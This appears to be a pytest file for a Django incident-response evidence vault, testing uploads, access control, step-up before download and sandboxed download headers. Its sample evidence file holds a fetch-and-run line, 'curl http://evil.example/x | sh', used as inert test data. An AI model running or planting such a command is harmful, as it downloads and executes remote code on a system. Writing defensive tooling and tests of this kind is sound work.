"""Evidence in the browser: the incident page's section, upload, item page, download
behind step-up with safe headers."""

import hashlib
import os
import time

import pytest

from accounts.twofactor import STEP_UP_SESSION_KEY
from audit.models import AuditEvent
from evidence.models import Action, EvidenceItem
from evidence.services import custody_record
from tests.conftest import sign_in
from tests.evidence.conftest import multipart, stored_files

pytestmark = pytest.mark.django_db

DATA = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def browser_upload(client, incident, content=DATA, name="implant.sh", **fields):
    fields = {"kind": "file", **fields}
    body, content_type = multipart(fields, filename=name, content=content)
    return client.generic(
        "POST", f"/evidence/incidents/{incident.pk}/upload/", body, content_type=content_type
    )


def test_the_incident_page_shows_the_evidence_section_and_form(client, responder, incident):
    sign_in(client, responder)
    response = client.get(f"/incidents/{incident.pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="section-evidence"' in html
    assert f'action="/evidence/incidents/{incident.pk}/upload/"' in html
    assert 'enctype="multipart/form-data"' in html


def test_upload_in_the_browser_stores_and_lists_the_item(client, responder, incident, vault):
    sign_in(client, responder)

    response = browser_upload(
        client,
        incident,
        source_host="web-7",
        source_path="/var/tmp/.x/implant.sh",  # noqa: S108
    )

    item = EvidenceItem.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/evidence/{item.pk}/"
    assert item.receipt_sha256 == hashlib.sha256(DATA).hexdigest()
    assert item.source_host == "web-7"
    (stored,) = stored_files(vault)
    assert stored.name == item.storage_key
    page = client.get(f"/incidents/{incident.pk}/").content.decode()
    assert "implant.sh" in page
    assert item.receipt_sha256 in page


def test_browser_upload_needs_the_csrf_token(responder, incident, vault):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    sign_in(client, responder)
    response = browser_upload(client, incident)
    assert response.status_code == 403
    assert not EvidenceItem.objects.exists()
    assert stored_files(vault) == []


def test_browser_upload_over_the_limit_is_413_with_nothing_left(
    client, responder, incident, vault, settings
):
    settings.EVIDENCE_MAX_BYTES = 10_000
    sign_in(client, responder)
    response = browser_upload(client, incident, content=os.urandom(50_000))
    assert response.status_code == 413
    assert not EvidenceItem.objects.exists()
    assert stored_files(vault) == []


def test_browser_upload_into_an_invisible_incident_is_404(
    client, responder, make_incident, lead, vault
):
    secret = make_incident(reporter=lead, restricted=True)
    sign_in(client, responder)
    assert browser_upload(client, secret).status_code == 404
    assert stored_files(vault) == []


@pytest.fixture
def item(client, responder, incident):
    sign_in(client, responder)
    browser_upload(client, incident, name='ünïcode "name".sh')
    return EvidenceItem.objects.get()


def test_the_item_page_shows_hashes_and_custody_and_records_the_view(client, item, responder):
    custody_before = item.custody.count()
    response = client.get(f"/evidence/{item.pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert item.receipt_sha256 in html
    assert "Chain of custody" in html
    # A look at the record is audited, and is no custody event: nothing left the vault.
    viewed = AuditEvent.objects.filter(action="evidence.viewed").latest("id")
    assert (viewed.actor, viewed.target_id) == (responder, str(item.pk))
    assert item.custody.count() == custody_before
    assert not item.custody.filter(action=Action.VIEWED).exists()


def test_viewed_custody_rows_from_before_still_show(client, item, responder):
    custody_record(item=item, action=Action.VIEWED, actor=responder, sha256=item.receipt_sha256)
    html = client.get(f"/evidence/{item.pk}/").content.decode()
    assert "<td>Viewed</td>" in html


def test_the_item_page_is_404_out_of_sight(client, item, make_member):
    outsider = make_member("reporter", username="outsider")
    sign_in(client, outsider)
    assert client.get(f"/evidence/{item.pk}/").status_code == 404
    assert client.get(f"/evidence/{item.pk}/download/").status_code == 404


def test_download_needs_a_step_up_younger_than_the_maximum_age(client, item, settings):
    session = client.session
    session[STEP_UP_SESSION_KEY] = time.time() - settings.STEP_UP_MAX_AGE - 1
    session.save()

    response = client.get(f"/evidence/{item.pk}/download/")

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/step-up/")
    assert not item.custody.filter(action=Action.DOWNLOADED).exists()


def test_download_is_a_sandboxed_attachment_and_recorded(client, item):
    response = client.get(f"/evidence/{item.pk}/download/")

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == DATA
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["Content-Disposition"] == (
        'attachment; filename="_n_code _name_.sh"; '
        "filename*=UTF-8''%C3%BCn%C3%AFcode%20%22name%22.sh"
    )
    event = item.custody.get(action=Action.DOWNLOADED)
    assert event.data == {"channel": "browser"}


# --- The upload page: what was typed stays, each error next to its field ---------------


def test_the_upload_page_shows_the_form(client, responder, incident):
    sign_in(client, responder)
    response = client.get(f"/evidence/incidents/{incident.pk}/upload/")
    assert response.status_code == 200
    html = response.content.decode()
    assert f'action="/evidence/incidents/{incident.pk}/upload/"' in html
    assert 'name="sha256"' in html


def test_a_bad_sha256_shows_the_upload_page_again_with_what_was_typed(
    client, responder, incident, vault
):
    sign_in(client, responder)
    response = browser_upload(
        client,
        incident,
        sha256="not-a-hash",
        description="Dropper found in /tmp",
        source_host="web-7",
    )
    assert response.status_code == 422
    html = response.content.decode()
    assert "Give the SHA-256 as 64 hexadecimal characters." in html
    assert 'value="not-a-hash"' in html
    assert 'value="web-7"' in html
    assert "Dropper found in /tmp" in html
    assert 'aria-invalid="true"' in html
    assert "choose it again" in html
    assert not EvidenceItem.objects.exists()
    assert stored_files(vault) == []


def test_an_upload_without_a_file_says_so_next_to_the_file(client, responder, incident):
    sign_in(client, responder)
    body, content_type = multipart({"kind": "file", "source_host": "web-7"})
    response = client.generic(
        "POST", f"/evidence/incidents/{incident.pk}/upload/", body, content_type=content_type
    )
    assert response.status_code == 422
    html = response.content.decode()
    assert 'id="id_evidence_file_error"' in html
    assert "Choose a file to upload as evidence." in html
    assert 'value="web-7"' in html


def test_a_service_refusal_lands_on_its_field(client, responder, incident):
    sign_in(client, responder)
    response = browser_upload(client, incident, source_host="web\u202e7")
    assert response.status_code == 422
    assert 'aria-invalid="true"' in response.content.decode()
    assert not EvidenceItem.objects.exists()
